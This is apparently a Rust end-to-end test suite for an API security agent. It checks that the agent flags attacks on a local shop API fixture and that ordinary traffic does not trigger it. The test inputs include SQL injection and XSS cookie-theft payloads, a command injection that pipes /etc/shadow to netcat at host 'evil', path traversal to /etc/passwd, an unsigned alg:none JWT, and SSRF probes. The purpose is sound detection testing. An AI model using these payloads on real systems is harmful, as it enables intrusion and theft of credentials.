//! End-to-end security signals: the real agent watches a real JSON service
//! (tests/fixtures/shop_api.py) while attacks and ordinary traffic reach it, and its findings
//! arrive as OTLP log records at an in-process receiver (support/otlp.rs). Every request
//! carries its own W3C trace id, so each finding is matched to the request that raised it
//! through the trace correlation the agent exports.

mod support;

use std::{
    collections::{BTreeMap, BTreeSet},
    process::Command,
    time::Duration,
};

use support::otlp::{FlatLog, OtlpReceiver, summarize_logs};
use support::{
    Agent, COMMAND_TIMEOUT, FIXTURE_READY_TIMEOUT, Proc, TempDir, curl, fixture, free_port, python,
    random_hex, run,
};

/// How long a test waits for findings or log lines.
const EXPORT_TIMEOUT: Duration = Duration::from_secs(30);
/// `event.name` of a finding.
const FINDING: &str = "api.security.finding";

/// The shop API: the server, its port and its service name (the test's own: every agent
/// watches the whole host, so tests running side by side see each other's servers).
struct ShopApi {
    _server: Proc,
    port: u16,
    service: String,
}

fn shop_api() -> ShopApi {
    let port = free_port();
    let service = format!("shop-api-{}", random_hex(4));
    let mut server = Proc::spawn(
        "shop_api.py",
        Command::new(python())
            .arg("-u")
            .arg(fixture("shop_api.py"))
            .args(["--port", &port.to_string()])
            .env("OTEL_SERVICE_NAME", &service),
    );
    server.wait_stdout_line("READY", FIXTURE_READY_TIMEOUT, |l| l.trim() == "READY");
    ShopApi {
        _server: server,
        port,
        service,
    }
}

/// What every test runs: a receiver, the shop API and an agent exporting to the receiver.
struct Scene {
    receiver: OtlpReceiver,
    api: ShopApi,
    agent: Agent,
}

/// The scene, with the agent started with `args`.
fn scene(args: &[&str]) -> Scene {
    let receiver = OtlpReceiver::start();
    let api = shop_api();
    let agent = agent(&receiver, args);
    Scene {
        receiver,
        api,
        agent,
    }
}

/// The agent exporting to `receiver` quickly, with `args`.
fn agent(receiver: &OtlpReceiver, args: &[&str]) -> Agent {
    receiver.agent(args, &[("OTEL_BSP_SCHEDULE_DELAY", "200")])
}

/// Sends one request with a fresh trace id and returns that id. `path` is sent as is;
/// `query` values are URL-encoded by curl; extra `headers` are `Name: value`.
fn send(
    port: u16,
    method: &str,
    path: &str,
    query: &[&str],
    headers: &[&str],
    body: Option<&str>,
) -> String {
    let trace = random_hex(16);
    let traceparent = format!("traceparent: 00-{trace}-{}-01", random_hex(8));
    let url = format!("http://127.0.0.1:{port}{path}");
    let mut args = vec!["-s", "-o", "/dev/null", "-H", &traceparent];
    for header in headers {
        args.extend(["-H", header]);
    }
    if method == "GET" {
        args.push("--get");
        for value in query {
            args.extend(["--data-urlencode", value]);
        }
    } else {
        args.extend(["-X", method, "-H", "Content-Type: application/json"]);
        if let Some(body) = body {
            args.extend(["--data-binary", body]);
        }
    }
    args.push(&url);
    curl(&args);
    trace
}

/// `count` keep-alive `GET path` requests from one Python client, `pause_ms` apart (the
/// traffic's own rhythm, not a wait for anything).
fn burst(port: u16, path: &str, headers: &[(&str, &str)], count: usize, pause_ms: u64) {
    let headers: BTreeMap<&str, &str> = headers.iter().copied().collect();
    let script = format!(
        "import http.client, json, time\n\
         c = http.client.HTTPConnection('127.0.0.1', {port}, timeout=10)\n\
         for _ in range({count}):\n    c.request('GET', {path:?}, headers=json.loads({headers:?}))\n    c.getresponse().read()\n    time.sleep({pause})\n",
        headers = serde_json::to_string(&headers).unwrap(),
        pause = pause_ms as f64 / 1000.0,
    );
    let out = run(
        Command::new(python()).args(["-c", &script]),
        COMMAND_TIMEOUT,
    );
    assert!(out.status.success(), "burst {path}: {}", out.describe());
}

/// The findings about `service`.
fn findings<'a>(logs: &'a [FlatLog], service: &str) -> Vec<&'a FlatLog> {
    logs.iter()
        .filter(|log| log.event_name == FINDING && log.service() == Some(service))
        .collect()
}

fn rule(log: &FlatLog) -> &str {
    log.attr_str("security_rule.name").unwrap_or_default()
}

/// The rules raised for the request of `trace`.
fn rules_of(logs: &[FlatLog], service: &str, trace: &str) -> BTreeSet<String> {
    findings(logs, service)
        .into_iter()
        .filter(|log| log.trace_id == trace)
        .map(|log| rule(log).to_owned())
        .collect()
}

/// An unsigned compact JWT (`alg` as given) for `sub`.
fn jwt(alg: &str, sub: &str, expires: bool) -> String {
    use base64::Engine as _;
    let encode = |text: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text);
    let payload = if expires {
        format!(r#"{{"sub":"{sub}","exp":4102444800}}"#)
    } else {
        format!(r#"{{"sub":"{sub}"}}"#)
    };
    format!(
        "{}.{}.{}",
        encode(&format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#)),
        encode(&payload),
        if alg == "none" { "" } else { "c2lnbmF0dXJl" }
    )
}

#[test]
fn injections_raise_their_rules_and_ordinary_traffic_does_not() {
    let Scene {
        receiver,
        api,
        agent,
    } = scene(&[]);
    let (port, service) = (api.port, api.service.as_str());

    // Ordinary traffic first, with strings that look a little like attacks.
    let benign = [
        send(port, "GET", "/search", &["q=O'Reilly books"], &[], None),
        send(
            port,
            "GET",
            "/search",
            &["q=select a plan & pay; it's 5 o'clock"],
            &[],
            None,
        ),
        send(
            port,
            "GET",
            "/search",
            &["q=union station to drop-off"],
            &[],
            None,
        ),
        send(
            port,
            "GET",
            "/files",
            &["name=report..final.pdf"],
            &[],
            None,
        ),
        send(
            port,
            "GET",
            "/search",
            &["q=a<b and c>d, I <3 it"],
            &[],
            None,
        ),
        send(
            port,
            "POST",
            "/comments",
            &[],
            &[],
            Some(r#"{"text": "Don't panic; see https://example.org/docs?page=2"}"#),
        ),
    ];
    let attacks = [
        (
            "sqli",
            send(port, "GET", "/search", &["q=1' OR '1'='1' --"], &[], None),
        ),
        (
            "sqli",
            send(
                port,
                "POST",
                "/comments",
                &[],
                &[],
                Some(r#"{"text": "x' UNION SELECT password FROM users--"}"#),
            ),
        ),
        (
            "xss",
            send(
                port,
                "GET",
                "/search",
                &["q=<script>alert(document.cookie)</script>"],
                &[],
                None,
            ),
        ),
        (
            "command-injection",
            send(
                port,
                "GET",
                "/search",
                &["q=test; cat /etc/shadow | nc evil 4444"],
                &[],
                None,
            ),
        ),
        (
            "path-traversal",
            send(
                port,
                "GET",
                "/files",
                &["name=../../../../etc/passwd"],
                &[],
                None,
            ),
        ),
    ];
    let logs = receiver.wait_for_logs(
        |logs| {
            attacks
                .iter()
                .all(|(expected, trace)| rules_of(logs, service, trace).contains(*expected))
        },
        EXPORT_TIMEOUT,
    );
    let summary = summarize_logs(&logs);
    for trace in &benign {
        assert!(
            rules_of(&logs, service, trace).is_empty(),
            "ordinary request {trace} raised {:?}: {summary}",
            rules_of(&logs, service, trace)
        );
    }
    let (_, sqli_trace) = &attacks[0];
    let sqli = findings(&logs, service)
        .into_iter()
        .find(|log| log.trace_id == *sqli_trace && rule(log) == "sqli")
        .unwrap();
    assert_eq!(
        sqli.attr_str("apiscope.finding.location"),
        Some("query:q"),
        "{summary}"
    );
    assert_eq!(sqli.attr_str("security_rule.category"), Some("injection"));
    assert_eq!(
        sqli.attr_str("security_rule.ruleset.name"),
        Some("apiscope-default")
    );
    assert!(
        sqli.attr_str("security_rule.uuid")
            .is_some_and(|uuid| uuid.len() == 36)
    );
    assert!(
        sqli.attr_str("apiscope.rules.sha256")
            .is_some_and(|sha| sha.len() == 64)
    );
    assert_eq!(sqli.severity_text, "ERROR");
    let body_sqli = findings(&logs, service)
        .into_iter()
        .find(|log| log.trace_id == attacks[1].1)
        .unwrap();
    assert_eq!(
        body_sqli.attr_str("apiscope.finding.location"),
        Some("body/text"),
        "{summary}"
    );

    // The finding is a span event on the server span of its call, too.
    let spans = receiver.wait_for_spans(
        |spans| {
            spans
                .iter()
                .any(|span| span.trace_id == *sqli_trace && span.is_server())
        },
        EXPORT_TIMEOUT,
    );
    let server = spans
        .iter()
        .find(|span| span.trace_id == *sqli_trace && span.is_server())
        .unwrap();
    assert_eq!(sqli.span_id, server.span_id);
    assert!(server.events >= 1, "no span event on {}", server.name);

    for secret in [
        "' OR '1'='1",
        "UNION SELECT password",
        "alert(document.cookie)",
        "cat /etc/shadow",
    ] {
        let bytes = receiver.all_bytes();
        assert!(
            !bytes
                .windows(secret.len())
                .any(|window| window == secret.as_bytes()),
            "{secret:?} was exported"
        );
    }
    agent.stop_for_lines();
}

#[test]
fn enumeration_auth_failures_floods_and_unsigned_tokens_raise_their_rules() {
    let Scene {
        receiver,
        api,
        agent,
    } = scene(&[]);
    let (port, service) = (api.port, api.service.as_str());

    let alice = format!("Authorization: Bearer {}", jwt("HS256", "alice", true));
    let mallory = format!("Authorization: Bearer {}", jwt("HS256", "mallory", true));
    let mut alice_traces = BTreeSet::new();
    for _ in 0..4 {
        for id in 1..=3 {
            alice_traces.insert(send(
                port,
                "GET",
                &format!("/orders/{id}"),
                &[],
                &[&alice],
                None,
            ));
        }
    }
    let mut mallory_traces = BTreeSet::new();
    for id in 100..140 {
        mallory_traces.insert(send(
            port,
            "GET",
            &format!("/orders/{id}"),
            &[],
            &[&mallory],
            None,
        ));
    }
    burst(
        port,
        "/private",
        &[("Authorization", "Bearer guess")],
        30,
        0,
    );
    burst(port, "/health", &[], 400, 0);
    // A script on a fixed sleep.
    burst(
        port,
        "/search?q=pace",
        &[("X-Api-Key", "pacer-key")],
        25,
        100,
    );
    let unsigned = send(
        port,
        "GET",
        "/me",
        &[],
        &[&format!(
            "Authorization: Bearer {}",
            jwt("none", "root", true)
        )],
        None,
    );

    let logs = receiver.wait_for_logs(
        |logs| {
            let raised: BTreeSet<&str> = findings(logs, service).into_iter().map(rule).collect();
            [
                "bola-enumeration",
                "auth-failure-burst",
                "endpoint-flood",
                "jwt-alg-none",
            ]
            .iter()
            .all(|expected| raised.contains(expected))
                && findings(logs, service).iter().any(|log| {
                    rule(log) == "automated-client"
                        && log.attr_str("api.endpoint") == Some("GET /search")
                })
        },
        EXPORT_TIMEOUT,
    );
    let summary = summarize_logs(&logs);
    let bola: Vec<&FlatLog> = findings(&logs, service)
        .into_iter()
        .filter(|log| rule(log) == "bola-enumeration")
        .collect();
    assert_eq!(bola.len(), 1, "BOLA once per window: {summary}");
    assert!(
        mallory_traces.contains(&bola[0].trace_id),
        "BOLA on mallory's walk: {summary}"
    );
    assert_eq!(bola[0].attr_str("apiscope.principal.kind"), Some("jwt"));
    assert_eq!(
        bola[0]
            .attr_str("security_rule.reference")
            .map(|url| url.contains("0xa1-")),
        Some(true)
    );
    assert!(
        findings(&logs, service)
            .iter()
            .all(|log| !alice_traces.contains(&log.trace_id) || rule(log) != "bola-enumeration"),
        "alice reading her own orders raised BOLA: {summary}"
    );
    let burst_finding = findings(&logs, service)
        .into_iter()
        .find(|log| rule(log) == "auth-failure-burst")
        .unwrap();
    assert_eq!(
        burst_finding.attr_str("http.route"),
        Some("/private"),
        "{summary}"
    );
    let flood = findings(&logs, service)
        .into_iter()
        .find(|log| rule(log) == "endpoint-flood")
        .unwrap();
    assert_eq!(
        flood.attr_str("api.endpoint"),
        Some("GET /health"),
        "{summary}"
    );
    assert!(
        rules_of(&logs, service, &unsigned).contains("jwt-alg-none"),
        "{summary}"
    );
    // The paced script is bot-like (so are the test's own curl loops, which is right).
    let paced = findings(&logs, service)
        .into_iter()
        .find(|log| {
            rule(log) == "automated-client" && log.attr_str("api.endpoint") == Some("GET /search")
        })
        .unwrap_or_else(|| panic!("the paced script was not found bot-like: {summary}"));
    assert_eq!(paced.attr_str("apiscope.rule.lane"), Some("monitor"));
    assert_eq!(paced.severity_text, "INFO");
    for token in ["mallory", "alice", "guess", "pacer-key"] {
        assert!(
            !logs.iter().any(|log| format!("{log:?}").contains(token)),
            "{token} was exported: {summary}"
        );
    }
    agent.stop_for_lines();
}

#[test]
fn ssrf_is_confirmed_when_the_server_connects_where_the_request_said() {
    let Scene {
        receiver,
        api,
        agent,
    } = scene(&[]);
    let (port, service) = (api.port, api.service.as_str());
    let internal = format!("url=http://127.0.0.1:{port}/health");
    let trace = send(port, "GET", "/fetch", &[&internal], &[], None);
    let logs = receiver.wait_for_logs(
        |logs| rules_of(logs, service, &trace).contains("ssrf-confirmed"),
        EXPORT_TIMEOUT,
    );
    let rules = rules_of(&logs, service, &trace);
    assert!(
        rules.contains("ssrf-attempt"),
        "{rules:?}: {}",
        summarize_logs(&logs)
    );
    let confirmed = findings(&logs, service)
        .into_iter()
        .find(|log| log.trace_id == trace && rule(log) == "ssrf-confirmed")
        .unwrap();
    assert_eq!(
        confirmed.attr_str("apiscope.finding.location"),
        Some("query:url")
    );
    assert_eq!(confirmed.severity_text, "FATAL");

    // A bare TCP connection that never carries a byte confirms it too: the kernel saw the
    // connect.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let silent = format!(
        "url=http://127.0.0.1:{}/",
        listener.local_addr().unwrap().port()
    );
    let trace = send(port, "GET", "/probe", &[&silent], &[], None);
    receiver.wait_for_logs(
        |logs| rules_of(logs, service, &trace).contains("ssrf-confirmed"),
        EXPORT_TIMEOUT,
    );
    // A URL the server does not act on is only an attempt.
    let ignored = send(port, "GET", "/search", &[&internal], &[], None);
    let marker = send(
        port,
        "GET",
        "/search",
        &["q=<script>alert(1)</script>"],
        &[],
        None,
    );
    let logs = receiver.wait_for_logs(
        |logs| rules_of(logs, service, &marker).contains("xss"),
        EXPORT_TIMEOUT,
    );
    assert_eq!(
        rules_of(&logs, service, &ignored),
        BTreeSet::from(["ssrf-attempt".to_owned()]),
        "{}",
        summarize_logs(&logs)
    );
    agent.stop_for_lines();
}

#[test]
fn a_rule_turned_off_in_its_pack_stops_at_once_and_a_bad_pack_is_refused() {
    let dir = TempDir::new("security-reload");
    let pack = dir.join("team-pack.yaml");
    std::fs::write(&pack, "name: team\nversion: '1'\n").unwrap();
    let pack_flag = pack.display().to_string();
    let Scene {
        receiver,
        api,
        mut agent,
    } = scene(&["--rule-pack", &pack_flag]);
    let (port, service) = (api.port, api.service.as_str());
    let sqli = ["q=1' OR '1'='1' --"];
    let xss = ["q=<script>alert(1)</script>"];

    let first = send(port, "GET", "/search", &sqli, &[], None);
    receiver.wait_for_logs(
        |logs| rules_of(logs, service, &first).contains("sqli"),
        EXPORT_TIMEOUT,
    );

    std::fs::write(
        &pack,
        "name: team\nversion: '2'\nrules:\n  - id: sqli\n    lane: off\n",
    )
    .unwrap();
    let changed = agent.wait_log_line("the rule packs changed", EXPORT_TIMEOUT, |line| {
        line.contains("rule packs changed") && line.contains("team@2")
    });
    let sha = changed
        .split("sha256 ")
        .nth(1)
        .and_then(|rest| rest.get(..64))
        .unwrap_or_else(|| panic!("no sha256 in {changed}"))
        .to_owned();
    let silenced = send(port, "GET", "/search", &sqli, &[], None);
    let marker = send(port, "GET", "/search", &xss, &[], None);
    let logs = receiver.wait_for_logs(
        |logs| rules_of(logs, service, &marker).contains("xss"),
        EXPORT_TIMEOUT,
    );
    assert!(
        rules_of(&logs, service, &silenced).is_empty(),
        "sqli still raised after lane: off: {}",
        summarize_logs(&logs)
    );
    let xss_finding = findings(&logs, service)
        .into_iter()
        .find(|log| log.trace_id == marker)
        .unwrap();
    assert_eq!(
        xss_finding.attr_str("apiscope.rules.sha256"),
        Some(sha.as_str())
    );
    assert_eq!(
        xss_finding.attr_str("apiscope.rules.version"),
        Some("apiscope-default@2026.12.0 + team@2")
    );

    std::fs::write(
        &pack,
        "name: team\nversion: '3'\nrules:\n  - id: sqli\n    lane: sometimes\n",
    )
    .unwrap();
    let rejected = agent.wait_log_line("the bad pack's rejection", EXPORT_TIMEOUT, |line| {
        line.contains("rule pack rejected")
    });
    assert!(
        rejected.contains(&format!("{pack_flag}:5:")) && rejected.contains("sometimes"),
        "{rejected}"
    );
    let still_off = send(port, "GET", "/search", &sqli, &[], None);
    let marker = send(port, "GET", "/search", &xss, &[], None);
    let logs = receiver.wait_for_logs(
        |logs| rules_of(logs, service, &marker).contains("xss"),
        EXPORT_TIMEOUT,
    );
    assert!(
        rules_of(&logs, service, &still_off).is_empty(),
        "{}",
        summarize_logs(&logs)
    );

    agent.signal(libc::SIGHUP);
    // The pack is still bad: the reload is judged and rejected (and counted) before this line.
    agent.wait_log_line("the SIGHUP reload's rejection", EXPORT_TIMEOUT, |line| {
        line.contains("rule pack rejected")
    });
    let metrics = curl(&["-sS", &format!("{}/metrics", agent.endpoints_url())]).stdout_text();
    // Counted per rule across the host (other tests' services included): at least ours.
    let sqli_findings = metrics
        .lines()
        .find_map(|line| {
            line.strip_prefix("apiscope_security_findings_total{rule=\"sqli\",lane=\"alert\"} ")
        })
        .and_then(|count| count.trim().parse::<u64>().ok());
    assert!(sqli_findings >= Some(1), "{metrics}");
    assert!(
        metrics.contains("apiscope_rule_reloads_rejected_total 2"),
        "{metrics}"
    );
    agent.stop_for_lines();
}
